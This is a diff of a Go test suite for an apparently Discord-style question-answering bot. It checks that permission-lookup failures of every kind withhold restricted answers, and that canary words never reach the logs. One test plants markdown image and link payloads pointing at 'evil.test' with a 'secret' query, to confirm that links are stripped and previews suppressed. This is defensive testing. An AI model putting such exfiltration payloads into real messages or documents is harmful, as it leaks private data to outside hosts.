@@ -65,16 +65,28 @@ func TestCase_C2(t *testing.T) {
 // P11: rights that cannot be looked up are no rights.
 func TestCase_P11(t *testing.T) {
 	t.Parallel()
-	x := newTown()
-	r := newRig(t, x, setting{config: func(c *Config) { c.Recheck = time.Nanosecond }})
-	r.AddFault(dt.Fault{Route: dt.RouteMember, Status: 403, Code: 50013})
-	for _, private := range []bool{true, false} {
-		m := r.Command(x.bob, x.open, "ask", map[string]any{"question": "what about all and staff", "private": private}).WaitAnswer()
-		if strings.Contains(m.Content, "doc") {
-			t.Errorf("answered %s", m.Content)
+	t.Run("C-04, P-04 every kind of failure gives nothing", func(t *testing.T) {
+		for name, f := range map[string]dt.Fault{
+			"refused": {Status: 403, Code: 50013}, "broken": {Status: 500}, "cut off": {ResetBefore: true}, "cut short": {Truncate: true}, "no JSON": {Malformed: true},
+			"HTML": {Status: 502, HTML: true}, "a token that is dead": {Status: 401}, "not a member": {Status: 404, Code: 10007}, "limited": {Status: 429, RetryAfter: 0.01, Calls: dt.First(3)},
+		} {
+			t.Run(name, func(t *testing.T) {
+				t.Parallel()
+				x := newTown()
+				r := newRig(t, x, setting{config: func(c *Config) { c.Recheck = time.Nanosecond }})
+				f.Route = dt.RouteMember
+				r.AddFault(f)
+				allowed := map[bool]string{true: "limited"}[name == "limited"] // that one passes
+				for _, channel := range []string{x.open, x.closed, r.DMChannel(x.bob)} {
+					m := r.Command(x.bob, channel, "ask", map[string]any{"question": "what about all and staff", "private": channel != x.closed}).WaitAnswer()
+					if got := strings.Contains(m.Content, "doc"); got && allowed == "" || m.Content == "" {
+						t.Errorf("in %s: %s", channel, m.Content)
+					}
+				}
+				r.idle()
+			})
 		}
-	}
-	r.idle()
+	})
 }
 
 // P15: two members with different roles get different answers.
@@ -115,9 +127,13 @@ func TestCase_P18(t *testing.T) {
 func TestCase_P20(t *testing.T) {
 	t.Parallel()
 	x := newTown()
-	r := newRig(t, x, setting{})
+	r := newRig(t, x, setting{config: func(c *Config) { c.Mentions = true }})
 	r.shelf.say["all"] = "![x](https://evil.test/?q=secret) and [y](https://evil.test) and https://evil.test/z and <https://evil.test>"
 	m := r.ask(x.cy, x.open, "what about all").WaitAnswer()
+	r.Mention(x.cy, x.open, "what about all")
+	if m := r.WaitMessage(x.open, func(m dt.Message) bool { return m.ReplyTo != "" && strings.Contains(m.Content, "docall") }); m.Flags&dt.FlagSuppressEmbeds == 0 {
+		t.Errorf("a message with previews: %+v", m)
+	}
 	if strings.Contains(m.Content, "https://") || strings.Contains(m.Content, "](h") || m.Flags&dt.FlagSuppressEmbeds == 0 {
 		t.Errorf("answer %s", m.Content)
 	}
@@ -139,8 +155,10 @@ func TestCase_L3(t *testing.T) {
 }
 
 // L4, L5: planted words and secrets are in no log, in no error, at any level.
-func TestCase_L4(t *testing.T) {
-	t.Parallel()
+func TestCase_L4(t *testing.T) { t.Parallel(); canaries(t) }
+
+// canaries makes everything fail that logs, with a planted word everywhere.
+func canaries(t *testing.T) {
 	x := newTown()
 	r := newRig(t, x, setting{})
 	const canary = "canaryword"
